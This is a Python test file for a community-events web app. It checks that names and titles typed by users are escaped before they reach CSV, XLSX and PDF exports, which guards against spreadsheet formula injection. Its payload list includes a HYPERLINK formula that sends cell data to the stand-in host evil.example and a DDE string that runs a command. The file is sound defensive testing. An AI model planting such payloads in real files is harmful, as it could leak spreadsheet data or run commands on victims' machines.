"""Formula injection, attacked through every file the project hands out: text typed by users (names, titles,
area and material names) never becomes a live formula in CSV, XLSX or the yearly return."""

import csv
import io
from datetime import datetime
from decimal import Decimal
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from kepu.common.spreadsheets import Document, Percent, Table, safe_text, write_csv, write_xlsx
from kepu.demo.factories import (
    AreaFactory,
    DistributionFactory,
    EventFactory,
    MaterialFactory,
    OrganizationFactory,
    RegistrationFactory,
    UserFactory,
)
from kepu.events.models import EventReport, EventStatus, ReportStatus
from kepu.places.models import AreaLevel

ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点我")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]
SH = ZoneInfo("Asia/Shanghai")


def test_csv_text_that_could_start_a_formula_gets_an_apostrophe():
    for attack in ATTACKS:
        assert safe_text(attack) == "'" + attack
    assert safe_text("-") == "-"  # the survey's "not applicable" mark
    assert safe_text("张三") == "张三"
    assert safe_text("a\x00b\x1fc") == "abc"


def _xlsx_cells(content: bytes) -> list:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula_in_xlsx(content: bytes, *, expected: list[str]) -> None:
    cells = _xlsx_cells(content)
    assert all(cell.data_type != "f" for cell in cells), [c.value for c in cells if c.data_type == "f"]
    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
    for attack in expected:
        matching = [c for c in cells if isinstance(c.value, str) and attack.strip() in c.value]
        assert matching, (attack, texts)
        for cell in matching:
            assert cell.data_type == "s"
            if cell.value.startswith(("=", "+", "-", "@", "\t", "\r")):
                assert cell.quotePrefix


def assert_no_formula_in_csv(content: bytes) -> None:
    for row in csv.reader(io.StringIO(content.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert not value.startswith("-") or value == "-" or value.lstrip("-").replace(".", "").isdigit(), value


def test_the_writers_keep_text_as_text_and_numbers_as_numbers():
    rows = [[attack, 3, Decimal("1.50"), Percent(0.125)] for attack in ATTACKS] + [["负数", -4, Decimal("-2.00"), None]]
    document = Document(
        tables=[Table("=表", ["=名称", "次数", "金额", "比例"], rows)],
        title="@标题",
        header_block=[("地区", "=1+1")],
    )
    assert_no_formula_in_csv(write_csv(document))
    content = write_xlsx(document)
    assert_no_formula_in_xlsx(content, expected=["=1+1", "@标题", "=名称", *ATTACKS])
    numbers = [c for c in _xlsx_cells(content) if isinstance(c.value, int | float) and not isinstance(c.value, bool)]
    assert {c.number_format for c in numbers} == {"#,##0", "#,##0.00", "0.0%"}
    assert -4 in {c.value for c in numbers}


@pytest.fixture
def poisoned(db):
    """Every user-typed name that reaches an export starts with a formula."""
    district = AreaFactory(name='=HYPERLINK("http://evil.example","区")', level=AreaLevel.DISTRICT)
    community = AreaFactory(name="+社区", level=AreaLevel.COMMUNITY, parent=district)
    organization = OrganizationFactory(name="@组织", area=community)
    event = EventFactory(
        title="-2+3 讲座",
        organization=organization,
        status=EventStatus.REPORTED,
        starts_at=datetime(2025, 3, 1, 10, 0, tzinfo=SH),
    )
    EventReport.objects.create(
        event=event, status=ReportStatus.ACCEPTED, checked_in=0, walk_ins=5, attendance=5, submitted_at=event.starts_at
    )
    material = MaterialFactory(name="\t=1+1 手册")
    DistributionFactory(material=material, quantity=3, event=event, area=community, channel="event")
    staff = UserFactory(role="staff", staff_area=district)
    return {"district": district, "organization": organization, "event": event, "staff": staff}


def test_the_statistics_export_is_safe_in_csv_and_xlsx(poisoned, client_for):
    client = client_for(poisoned["staff"])
    csv_response = client.get("/api/v1/stats/export/", {"year": 2025, "format": "csv"})
    assert csv_response.status_code == 200
    assert_no_formula_in_csv(csv_response.content)
    text = csv_response.content.decode("utf-8-sig")
    assert "'+社区" in text and "'@组织" in text and "'\t=1+1 手册" in text
    xlsx = client.get("/api/v1/stats/export/", {"year": 2025, "format": "xlsx"})
    assert_no_formula_in_xlsx(xlsx.content, expected=["+社区", "@组织", "=1+1 手册", "=HYPERLINK"])


def test_the_yearly_return_is_safe_in_csv_xlsx_and_pdf(poisoned, client_for):
    client = client_for(poisoned["staff"])
    url = "/api/v1/reports/annual/2025/"
    csv_response = client.get(url, {"format": "csv"})
    assert csv_response.status_code == 200
    assert_no_formula_in_csv(csv_response.content)
    xlsx = client.get(url, {"format": "xlsx"})
    assert_no_formula_in_xlsx(xlsx.content, expected=["=HYPERLINK"])
    pdf = client.get(url, {"format": "pdf"})
    assert pdf.status_code == 200 and pdf.content.startswith(b"%PDF-")


def test_the_registrants_csv_is_safe(poisoned, client_for):
    from kepu.demo.factories import MembershipFactory

    organizer = MembershipFactory(organization=poisoned["organization"]).user
    event = EventFactory(organization=poisoned["organization"])
    for name in ATTACKS:
        RegistrationFactory(event=event, resident=UserFactory(name=name))
    response = client_for(organizer).get(f"/api/v1/events/{event.pk}/registrants.csv")
    assert response.status_code == 200
    assert_no_formula_in_csv(response.content)
    names = {row[1] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))}
    assert {"'" + attack for attack in ATTACKS} <= names
